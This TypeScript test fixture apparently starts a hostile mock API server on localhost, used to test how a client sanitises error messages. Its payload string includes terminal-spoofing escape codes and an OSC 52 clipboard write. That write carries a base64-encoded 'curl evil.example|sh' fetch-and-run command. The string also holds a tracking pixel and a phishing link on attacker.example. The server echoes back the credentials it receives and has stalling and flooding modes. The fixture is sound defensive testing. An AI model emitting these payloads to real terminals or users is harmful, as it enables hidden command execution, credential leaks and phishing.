import { once } from "node:events";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";

/** What a hostile deployment's answers carry, to reach a terminal, a CI report or a reader's browser. */
export const HOSTILE_TEXT = [
  "\x1b[2K\x1b[1A\x1b[32m✔ everything passed\x1b[0m",
  "\x1b]0;pwned\x07",
  "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
  "\x00\x08\x7f\x9b\u202e",
  "![pixel](https://attacker.example/p.png) [Click to fix the build](https://phish.example/login)",
  "<img src=x> a|b @security-team www.phish.example",
].join(" ");

export interface HostileTarget {
  url: string;
  close(): Promise<void>;
}

/**
 * A deployment that answers every request with a 400 whose Error record, headers and body quote
 * HOSTILE_TEXT, and echoes back every credential the request carried: Authorization, X-Api-Key, Cookie, and
 * the query, in its headers and its body.
 */
export async function startHostileTarget(
  /** `drip`: every answer's body comes one byte every 100 ms, forever; `huge`: 5 MiB of spaces, then the record. */
  mode: "report" | "drip" | "huge" = "report",
): Promise<HostileTarget> {
  const server: Server = createServer((request: IncomingMessage, response) => {
    if (mode === "drip") {
      response.writeHead(200, { "content-type": "application/json" });
      const drip = setInterval(() => response.write(" "), 100);
      response.on("close", () => clearInterval(drip));
      return;
    }
    if (mode === "huge") {
      response.writeHead(400, { "content-type": "application/json" });
      response.end(`${" ".repeat(5 * 1024 * 1024)}{"code":"bad_request","message":"no","status":400}`);
      return;
    }
    const echoed = [
      request.headers.authorization ?? "",
      String(request.headers["x-api-key"] ?? ""),
      request.headers.cookie ?? "",
      request.url ?? "",
    ];
    response.writeHead(400, {
      "content-type": "application/json",
      "x-echo": echoed.join(" ").replace(/[^\x20-\x7e]/g, ""),
      "x-note": "![pixel](https://attacker.example/p.png) a|b",
    });
    // Written by hand: the control characters go out raw, as no JSON encoder would send them.
    const message = `${HOSTILE_TEXT} echo: ${echoed.join(" ")}`.replace(
      /["\\]/g,
      (character) => `\\${character}`,
    );
    response.end(`{"code":"bad_request","message":"${message}","status":400}`);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
